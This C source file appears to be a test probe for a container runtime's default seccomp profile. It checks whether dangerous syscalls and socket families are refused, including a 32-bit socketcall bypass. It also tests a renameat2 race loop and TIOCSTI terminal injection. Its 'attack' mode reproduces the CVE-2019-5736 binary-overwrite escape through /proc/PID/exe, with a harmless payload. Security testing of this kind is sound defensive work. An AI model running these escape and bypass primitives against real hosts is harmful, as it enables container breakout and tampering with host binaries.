/* SPDX-License-Identifier: Apache-2.0 */
/*
 * probe - what a hostile process would do, for the stories about advisories; static, so that it runs in
 * a container's root
 *
 *	probe calls		name and result of each call that the default profile must refuse
 *	probe sockets		the same for families of sockets, by socket(2) and by i386's socketcall
 *	probe swap A B STOP	exchange two names until the file STOP is there; prints how often
 *	probe tiocsti		push a character into the terminal on descriptor 0
 *	probe attack DIR	take the file of a process that is neither busybox nor this program, write to it
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static void result(const char *name, long r)
{
	printf("%s:%s\n", name,
	       r >= 0		 ? "ok"
	       : errno == EPERM	 ? "EPERM"
	       : errno == ENOSYS ? "ENOSYS"
				 : strerror(errno));
}

/* Arguments that would be faults or nonsense to the kernel: only a filter answers EPERM before it looks. */
static int calls(void)
{
	static const struct {
		const char *name;
		long nr, args[5];
	} list[] = {
		{"unshare-user", SYS_unshare, {CLONE_NEWUSER}},
		{"unshare-net", SYS_unshare, {CLONE_NEWNET}},
		{"clone-user", SYS_clone, {CLONE_NEWUSER | SIGCHLD}},
		{"clone3", SYS_clone3, {0, 0}},
		{"fsopen", SYS_fsopen, {0, 0}},
		{"fsconfig", SYS_fsconfig, {-1, 0, 0, 0, 0}},
		{"mount", SYS_mount, {0, 0, 0, 0, 0}},
		{"open_tree", SYS_open_tree, {-1, 0, 0}},
		{"move_mount", SYS_move_mount, {-1, 0, -1, 0, 0}},
		{"bpf", SYS_bpf, {0, 0, 0}},
		{"keyctl", SYS_keyctl, {0, 0}},
		{"add_key", SYS_add_key, {0, 0, 0, 0, 0}},
		{"userfaultfd", SYS_userfaultfd, {0}},
		{"io_uring_setup", SYS_io_uring_setup, {1, 0}},
		{"perf_event_open", SYS_perf_event_open, {0, 0, -1, -1, 0}},
		{"setns", SYS_setns, {-1, 0}},
		{"open_by_handle_at", SYS_open_by_handle_at, {-1, 0, 0}},
		{"kexec_load", SYS_kexec_load, {0, 0, 0, 0}},
		{"init_module", SYS_init_module, {0, 0, 0}},
	};

	for (size_t i = 0; i < sizeof(list) / sizeof(*list); i++) {
		const long *a = list[i].args;
		long r = syscall(list[i].nr, a[0], a[1], a[2], a[3], a[4]);

		if (list[i].nr == SYS_clone && r == 0)
			_exit(0);
		result(list[i].name, r);
	}
	return 0;
}

/* By the 32-bit entry a filter sees a pointer, not the family. */
static void by_socketcall(int family)
{
#if defined(__x86_64__)
	char name[32];
	long r;
	/* below 4 GiB, which a static program that is loaded anywhere is not */
	uint32_t *low =
		(uint32_t *)syscall(SYS_mmap, 0, 4096, 3, 0x22 | 0x40 /* MAP_32BIT */, -1, 0);

	low[0] = (uint32_t)family;
	low[1] = family == 38 ? SOCK_SEQPACKET : SOCK_DGRAM;
	low[2] = 0;
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(102), "b"(1), "c"(low)
			 : "memory", "r8", "r9", "r10", "r11");
	snprintf(name, sizeof(name), "socketcall-%d", family);
	errno = (int)-r;
	result(name, r < 0 ? -1 : r);
#else
	printf("socketcall-%d:ENOSYS\n", family);
#endif
}

static int sockets(void)
{
	static const int families[] = {AF_UNIX, AF_INET, AF_INET6, AF_NETLINK, 38, 40};
	char name[32];

	for (size_t i = 0; i < sizeof(families) / sizeof(*families); i++) {
		snprintf(name, sizeof(name), "socket-%d", families[i]);
		result(name,
		       socket(families[i], families[i] == 38 ? SOCK_SEQPACKET : SOCK_DGRAM, 0));
	}
	fflush(stdout);
	by_socketcall(38);
	by_socketcall(40);
	return 0;
}

static int swap(const char *a, const char *b, const char *stop)
{
	unsigned long n = 0;

	while (access(stop, F_OK))
		for (int i = 0; i < 100; i++)
			n += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b,
				     2 /* RENAME_EXCHANGE */) == 0;
	printf("%lu\n", n);
	return n < 100;
}

static int tiocsti(void)
{
	int r = ioctl(0, TIOCSCTTY, 0);

	result("TIOCSCTTY", r);
	result("TIOCSTI", ioctl(0, TIOCSTI, "x"));
	return 0;
}

/* As the published exploit of CVE-2019-5736: write as soon as the file is not busy any more. */
static _Noreturn void attack(const char *dir)
{
	char path[64], link[256];

	for (int pid = 2;; pid = pid > 300 ? 2 : pid + 1) {
		int fd, w = -1, log;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_PATH);
		n = fd < 0 ? -1 : readlink(path, link, sizeof(link) - 1);
		link[n < 0 ? 0 : n] = '\0';
		if (n > 0 && !strstr(link, "busybox") && !strstr(link, "probe")) {
			snprintf(path, sizeof(path), "%s/log", dir);
			log = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
			dprintf(log, "have %s\n", link);
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			for (int i = 0; i < 20000 && w < 0; i++)
				w = open(path, O_WRONLY);
			if (w >= 0)
				dprintf(log, "wrote %zd\n", write(w, "overwritten\n", 12));
			close(w);
			close(log);
		}
		close(fd);
	}
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "calls"))
		return calls();
	if (!strcmp(what, "sockets"))
		return sockets();
	if (!strcmp(what, "swap") && argc == 5)
		return swap(argv[2], argv[3], argv[4]);
	if (!strcmp(what, "tiocsti"))
		return tiocsti();
	if (!strcmp(what, "attack") && argc == 3)
		attack(argv[2]);
	return 2;
}
